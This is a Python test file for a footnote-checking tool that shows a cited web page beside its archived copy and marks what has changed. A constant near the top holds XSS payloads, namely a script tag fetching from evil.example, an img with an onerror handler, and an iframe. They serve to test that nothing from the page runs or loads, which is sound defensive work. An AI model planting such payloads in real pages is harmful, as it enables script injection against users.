"""Page and archived copy beside each other: what differs is marked, and nothing of either is loaded or run."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from fakes.chromium import NEEDED, launched
from fakes.command import Desk
from fakes.drifting import PARAGRAPHS
from fakes.little_web import LittleWeb, Reply
from fakes.reviewed import RunningDesk, open_desk
from fakes.wayback_machine import Take, WaybackMachine

from pipeline.archives.clock import SystemClock

HOSTILE = (
    "<script>parent.hacked = 1; fetch('http://evil.example/script')</script>"
    "<img src='http://evil.example/pixel.png' onerror='hacked = 2'><iframe src='http://evil.example/'></iframe>"
)
SPELT_OUT = "Type &lt;script&gt;hacked = 3&lt;/script&gt; &lt;img src=x onerror=hacked=4&gt; into the form of the port."
LATER = (
    PARAGRAPHS[0].replace("eleven months", "fourteen months"),
    PARAGRAPHS[1],
    PARAGRAPHS[3],
    "The province withdrew its promise in January, and the town now looks for a lender who would pay for the gates.",
)


def _page(paragraphs: tuple[str, ...]) -> str:
    body = "".join(f"<p>{one}</p>" for one in (*paragraphs, SPELT_OUT))
    title = "Upper lock to close for eleven months"
    return (
        f'<html lang="en"><head><title>{title}</title></head><body><article><h1>{title}</h1>{HOSTILE}{body}'
        "</article></body></html>"
    )


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A folder with a draft that was checked; its page has changed since the copy was made."""
    folder = tmp_path_factory.mktemp("checked")
    with LittleWeb() as web, WaybackMachine(SystemClock()) as machine:
        url = web.url("/lock")
        web.plan("/lock", *[Reply(body=_page(LATER).encode())] * 4)
        web.plan("/gone", *[Reply(status=404, body=b"<title>Not found</title>Not found")] * 9)
        machine.hold(url, Take("20190506101010", _page(PARAGRAPHS)))
        desk = Desk(folder, archive=machine.origin)
        desk.write(
            "draft.md",
            "The lock closes.[^1] The gates are old.[^2]\n\n"
            f"[^1]: “Upper lock to close for eleven months,” Maribeck Herald, 6 May 2019, {url}.\n"
            f"[^2]: Ada Moor, “Old gates,” 2018, {web.url('/gone')}.\n",
        )
        desk.run("check", "draft.md", "--allow-private")
        yield folder


@pytest.fixture(scope="module")
def desk(checked: Path) -> Iterator[RunningDesk]:
    with open_desk(checked, Path("draft.md"), "--port", "0", "--config", "footproof.toml") as running:
        yield running


def _sources(desk: RunningDesk, place: int) -> str:
    with httpx.Client(verify=False, base_url=desk.origin, follow_redirects=True) as client:
        client.get(desk.address)
        version = client.get("/api/queue").json()["version"]
        return client.get("/api/sources", params={"place": place, "version": version}).text


def test_a_document_that_was_just_checked_is_not_checked_again(desk: RunningDesk) -> None:
    assert any("it is taken" in line for line in desk.said)


def test_what_differs_is_marked(desk: RunningDesk) -> None:
    shown = _sources(desk, 0)
    copy, page = shown.split("<section")[1:]
    assert "The archived copy, as it was on 6 May 2019" in copy
    assert "<del>The work will cost 18.4 million crowns" in copy
    assert "<mark>eleven " in copy
    assert "<mark>fourteen " in page
    assert "<ins>The province withdrew its promise in January" in page
    assert "Fishermen gathered before the town hall" in copy
    assert "<del>Fishermen" not in copy


def test_what_is_gone_is_said(desk: RunningDesk) -> None:
    assert "The workspace does not hold it." in _sources(desk, 1) or "Not found" in _sources(desk, 1)


def test_a_run_that_has_the_workspace_is_waited_for(desk: RunningDesk, checked: Path) -> None:
    from pipeline.app import opened_workspace

    with opened_workspace(checked / ".footproof"):
        shown = _sources(desk, 0)
    assert "workspace" in shown
    assert "<del>" not in shown
    assert "<del>" in _sources(desk, 0)


@NEEDED[0]
@NEEDED[1]
def test_nothing_of_the_page_runs(desk: RunningDesk) -> None:
    with launched() as browser:
        page = browser.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(desk.address)
        page.wait_for_selector("#details .foot", state="attached")
        page.select_option("#f-state", "")
        page.click(".row >> nth=0")
        page.keyboard.press("s")
        page.wait_for_selector("#sources .words")
        assert "Type <script>hacked = 3</script> <img src=x onerror=hacked=4> into the form" in page.inner_text(
            "#sources"
        )
        assert page.locator("#sources script, #sources img, #sources iframe").count() == 0
        assert page.evaluate("typeof hacked") == "undefined"
        assert [url for url in asked if not url.startswith((desk.origin, "data:"))] == []
